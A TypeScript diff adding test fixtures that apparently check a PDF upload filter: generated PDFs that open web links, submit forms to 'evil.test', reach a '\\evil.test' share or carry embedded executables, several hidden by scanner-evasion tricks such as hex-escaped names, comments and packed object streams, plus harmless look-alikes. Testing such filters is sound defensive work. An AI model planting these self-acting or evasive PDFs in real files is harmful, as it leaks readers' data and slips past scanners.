@@ -101,6 +101,133 @@ export async function activePdfs(): Promise<Record<string, Buffer>> {
   }
 }
 
+const URI = '<</S/URI/URI(https://evil.test)>>'
+const SUBMIT = '<</S/SubmitForm/F<</FS/URL/F(https://evil.test)>>>>'
+const JUMP = '<</S/GoTo/D[4 0 R/Fit]>>'
+
+/** An object stream as a writer packs it: the numbers and places of its objects in front of them. */
+function packedObjects(objects: Record<number, string>, type = '/Type/ObjStm'): Buffer {
+  const bodies = Object.values(objects).join(' ')
+  let at = 0
+  const index = Object.entries(objects)
+    .map(([number, body]) => {
+      const place = `${number} ${at}`
+      at += body.length + 1
+      return place
+    })
+    .join(' ')
+  const bytes = deflateSync(`${index} ${bodies}`)
+  const count = Object.keys(objects).length
+  return Buffer.concat([
+    Buffer.from(
+      `<<${type}/N ${count}/First ${index.length + 1}/Filter/FlateDecode/Length ${bytes.length}>>\nstream\r\n`,
+    ),
+    bytes,
+    Buffer.from('\nendstream'),
+  ])
+}
+
+/** PDFs that do something without a click when they are opened, closed or touched; none may be kept. */
+export function selfActingPdfs(): Record<string, Buffer> {
+  const events = (of: string) => `<</Type/Catalog/Pages 2 0 R/AA ${of}>>`
+  return {
+    'opens a page of the web': pdfOfObjects([root(URI), PAGES]),
+    'sends a form': pdfOfObjects([root(SUBMIT), PAGES]),
+    'opens a file of a share': pdfOfObjects([root('<</S/GoToR/F(\\\\\\\\evil.test\\\\x)/D[0/Fit]>>'), PAGES]),
+    'prints itself': pdfOfObjects([root('<</S/Named/N/Print>>'), PAGES]),
+    'does so in an object of its own': pdfOfObjects([root('3 0 R'), PAGES, URI]),
+    'does so behind a comment': pdfOfObjects([
+      '<</Type/Catalog/OpenAction%\r\n%x\r\n3%y\r\n0 R>>',
+      PAGES,
+      `%z\r\n${URI}`,
+    ]),
+    'does so under a name with letters as numbers': pdfOfObjects([
+      `<</Type/Catalog/Pages 2 0 R/Open#41ction<</#53/U#52I/URI(x)>>>>`,
+      PAGES,
+    ]),
+    'does so in packed objects': pdfOfObjects([root('4 0 R'), PAGES, packedObjects({ 4: URI, 5: '<<>>' })]),
+    'does so in packed objects from a packed root': pdfOfObjects([
+      ROOT,
+      PAGES,
+      packedObjects({ 6: JUMP, 7: root('8 0 R'), 8: SUBMIT }),
+    ]),
+    'does so in packed objects whose dictionary names objects': pdfOfObjects([
+      root('4 0 R'),
+      PAGES,
+      packedObjects({ 4: URI }, '/Type/ObjStm/X(1 0 obj)'),
+    ]),
+    'does so in packed objects behind a long dictionary': pdfOfObjects([
+      root('4 0 R'),
+      PAGES,
+      packedObjects({ 4: URI }, `/Type/ObjStm/X(${' '.repeat(9000)})`),
+    ]),
+    'does so after a jump': pdfOfObjects([root(`<</S/GoTo/D[4 0 R/Fit]/Next[${JUMP} 3 0 R]>>`), PAGES, URI]),
+    'has two kinds': pdfOfObjects([root('<</S/GoTo/S/URI/URI(x)>>'), PAGES]),
+    'has its kind elsewhere': pdfOfObjects([root('<</S 3 0 R/URI(x)>>'), PAGES, '/URI']),
+    'has two objects of one number': pdfOfObjects([root('3 0 R'), PAGES, JUMP, `(\nendobj\n3 0 obj ${URI}`]),
+    'has no object to begin with': pdfOfObjects([root('9 0 R'), PAGES]),
+    'has an object to begin with that is broken': pdfOfObjects([root('3 0 R'), PAGES, '<</S/GoTo']),
+    'acts when a page is opened': pdfOfObjects([ROOT, PAGES, `<</Type/Page/AA<</O ${URI}>>>>`]),
+    'acts when a page is closed, by reference': pdfOfObjects([
+      ROOT,
+      PAGES,
+      '<</Type/Page/AA 4 0 R>>',
+      '<</C 5 0 R>>',
+      SUBMIT,
+    ]),
+    'acts when it is saved': pdfOfObjects([events(`<</WS ${SUBMIT}>>`), PAGES]),
+    'acts when the mouse is moved': pdfOfObjects([
+      ROOT,
+      PAGES,
+      `<</Type/Annot/Subtype/Widget/AA<</Fo ${JUMP}/E ${URI}>>>>`,
+    ]),
+    'is a form with a program of its own': pdfOfObjects([
+      '<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 3 0 R/Fields[]>>>>',
+      PAGES,
+      '<</Length 3>>stream\n<x>\nendstream',
+    ]),
+    'says that it is encrypted, in a comment': pdfOfObjects([
+      ROOT,
+      PAGES,
+      '%/Encrypt 9 0 R\n<</Encrypt 9 0 R>>',
+      packed('hello', { how: '/Filter/LZWDecode' }),
+    ]),
+  }
+}
+
+/** PDFs with other files in them; none may be kept. */
+export function pdfsWithFiles(): Record<string, Buffer> {
+  const file = '<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream'
+  const unnamed = '<</Length 2>>stream\nMZ\nendstream'
+  return {
+    'a file in the list of files': pdfOfObjects([
+      '<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a) 3 0 R]>>>>>>',
+      PAGES,
+      '<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>',
+      file,
+    ]),
+    'a file on a page, which does not say what it is': pdfOfObjects([
+      ROOT,
+      PAGES,
+      '<</Type/Annot/Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 4 0 R>>>>>>',
+      unnamed,
+    ]),
+    'files behind a reference': pdfOfObjects([
+      ROOT,
+      PAGES,
+      '<</F(a.exe)/E#46 4 0 R>>',
+      '<</UF 5 0 R>>',
+      unnamed,
+    ]),
+    'a file named in packed objects': pdfOfObjects([
+      ROOT,
+      PAGES,
+      packedObjects({ 6: '<</F(a.exe)/EF<</F 4 0 R>>>>' }),
+      unnamed,
+    ]),
+  }
+}
+
 /** PDFs that people send and that look a little like those above; all must be taken. */
 export async function harmlessPdfs(): Promise<Record<string, Buffer>> {
   const page = '<</Length 30>>stream\n(HTML/CSS/JavaScript) Tj\nendstream'
@@ -108,6 +235,33 @@ export async function harmlessPdfs(): Promise<Record<string, Buffer>> {
     'a form with fields': await form(false),
     'a page that is jumped to': pdfOfObjects([root('[3 0 R/Fit]'), PAGES, '<</Type/Page>>']),
     'a jump as an action': pdfOfObjects([root('<</S/GoTo/D[3 0 R/Fit]>>'), PAGES, '<</Type/Page>>']),
+    'a page that is jumped to, by references': pdfOfObjects([
+      root('3 0 R'),
+      PAGES,
+      '<</S/GoTo/D[4 0 R/XYZ null null 0]/Next 5 0 R>>',
+      '<</Type/Page>>',
+      JUMP,
+    ]),
+    'a jump in packed objects': pdfOfObjects([root('4 0 R'), PAGES, packedObjects({ 4: JUMP, 5: '<<>>' })]),
+    'a page that is named': pdfOfObjects([root('(chapter one)'), PAGES]),
+    'jumps when a page is opened': pdfOfObjects([ROOT, PAGES, `<</Type/Page/AA<</O ${JUMP}>>>>`]),
+    'fonts called as keys that act': pdfOfObjects([
+      ROOT,
+      PAGES,
+      '<</Font<</AA 4 0 R/EF 4 0 R>>>>',
+      `<</Type/Font/Widths[${'500 '.repeat(200)}]/ToUnicode 5 0 R>>`,
+    ]),
+    'a picture in which such keys are read by chance': pdfOfObjects([
+      ROOT,
+      PAGES,
+      `<</Length 30>>stream\n\xff\x00/AA\x01\xfe /EF)\x00/XFA\xff\nendstream`,
+    ]),
+    'an outline and a long stream behind it': pdfOfObjects([
+      ROOT,
+      PAGES,
+      '<</Type/Outlines/First 4 0 R/Last 4 0 R/Count 1>>',
+      '<</Length 9/X[<</A(obj)>>]>>\nstream\n(AAAAAAA)\nendstream',
+    ]),
     links: pdfOfObjects([ROOT, PAGES, '<</Type/Annot/A<</S/URI/URI(https://tavan.test)>>>>']),
     'the words in a text': pdfOfObjects([ROOT, PAGES, page, '<</Title(Courses: /JavaScript /Launch %S)>>']),
     'fonts and names that begin alike': pdfOfObjects([
